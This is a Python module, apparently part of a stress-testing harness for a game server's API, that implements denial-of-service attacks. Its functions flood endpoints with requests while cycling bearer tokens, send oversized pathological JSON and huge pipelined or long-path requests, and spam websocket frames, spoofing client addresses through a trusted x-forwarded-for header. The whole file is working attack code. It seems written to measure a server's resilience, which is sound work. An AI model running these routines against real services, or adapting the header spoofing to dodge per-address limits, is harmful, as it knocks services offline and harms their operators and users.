"""Attackers: they cost a server as much as they can, address by address, in a process of their own.

Each sends raw bytes over plain sockets; the header of the proxy that the server trusts names the
address.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import os
import random
import struct
from collections.abc import Callable, Coroutine, Sequence
from typing import Any
from urllib.parse import urlsplit

CHUNK = 64 * 1024
BODY = 64 * 1000  # bytes; a request takes 64 kB
PAUSE = 0.01  # seconds between two packets of one connection
NICE = 10  # the attackers must not take CPU time from the measurement


class Target:
    """A server, and the address and identities of an attacker."""

    def __init__(self, url: str, address: str, tokens: Sequence[str], table: str) -> None:
        parts = urlsplit(url)
        self.host, self.port = parts.hostname or "", parts.port or 80
        self.address, self.tokens, self.table = address, list(tokens), table

    def head(self, method: str, path: str, *more: str) -> bytes:
        """A request up to its body."""
        lines = [f"{method} {path} HTTP/1.1", f"host: {self.host}:{self.port}", *more]
        lines += [f"x-forwarded-for: {self.address}", "", ""]
        return "\r\n".join(lines).encode()

    def post(self, body: bytes) -> bytes:
        """A request to become a player, which needs no token, with that body."""
        return self.head("POST", "/api/players", f"content-length: {len(body)}") + body


async def flood(to: Target) -> None:
    """Request again and again with all identities, whatever the answer."""
    reader, writer = await asyncio.open_connection(to.host, to.port)
    tokens = itertools.cycle(random.sample(to.tokens, len(to.tokens)) or [""])
    try:
        while True:
            known = [f"authorization: Bearer {token}"] if (token := next(tokens)) else []
            writer.write(to.head("GET", "/api/home", *known))
            head = await reader.readuntil(b"\r\n\r\n")
            size = head.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0]
            await reader.readexactly(int(size or 0))
    finally:
        writer.close()


async def _again(to: Target, data: bytes, pause: float = PAUSE) -> None:
    """Send the same data on one connection until it is closed, ignoring the answers."""
    reader, writer = await asyncio.open_connection(to.host, to.port)
    try:
        while True:
            writer.write(data)
            await writer.drain()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(pause):
                    if not await reader.read(CHUNK):
                        return
    finally:
        writer.close()


async def texts(to: Target) -> None:
    """JSON with an unterminated string."""
    await _again(to, to.post(b"[]" * 25 + b'"' + b'\\"' * (BODY // 2 - 50)))


async def brackets(to: Target) -> None:
    """JSON of nothing but brackets."""
    await _again(to, to.post(b"[" + b"[]," * (BODY // 3 - 2) + b"[]]"))


async def pipelines(to: Target) -> None:
    """Thousands of requests in one packet."""
    one = to.head("GET", "/api/no/such")
    await _again(to, one * (4 * CHUNK // len(one)))


async def queries(to: Target) -> None:
    """Long queries and paths, which cost parsing."""
    await _again(to, to.head("GET", "/api/tables?" + "a&" * 7000))
    await _again(to, to.head("GET", "/" + "a/" * 7000))


async def frames(to: Target) -> None:
    """Forty thousand websocket messages of six bytes in one packet."""
    more = ("connection: upgrade", "upgrade: websocket", "sec-websocket-version: 13")
    key = "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ=="
    reader, writer = await asyncio.open_connection(to.host, to.port)
    try:
        writer.write(to.head("GET", f"/api/tables/{to.table}/live", *more, key))
        await reader.readuntil(b"\r\n\r\n")
        pong = struct.pack("!BB", 0x8A, 0x80) + bytes(4)
        while True:
            writer.write(pong * (4 * CHUNK // len(pong)))
            await writer.drain()
            await asyncio.sleep(PAUSE)
    finally:
        writer.close()


Kind = Callable[[Target], Coroutine[Any, Any, None]]
KINDS: dict[str, tuple[Kind, int]] = {  # with the connections of one address
    "flood": (flood, 20),
    "texts": (texts, 2),
    "brackets": (brackets, 2),
    "pipelines": (pipelines, 2),
    "queries": (queries, 2),
    "frames": (frames, 2),
}


async def _forever(kind: Kind, to: Target) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            await kind(to)
        await asyncio.sleep(PAUSE)


async def _all(targets: Sequence[Target], kinds: Sequence[str]) -> None:
    async with asyncio.TaskGroup() as group:
        for to in targets:
            for name in kinds:
                kind, count = KINDS[name]
                for _ in range(count):
                    group.create_task(_forever(kind, to))


def attack(
    url: str, addresses: Sequence[str], tokens: Sequence[str], table: str, kinds: Sequence[str]
) -> None:
    """Attack from these addresses, which share the identities, until killed."""
    os.nice(NICE)
    targets = [
        Target(url, address, tokens[number :: len(addresses)], table)
        for number, address in enumerate(addresses)
    ]
    asyncio.run(_all(targets, kinds))
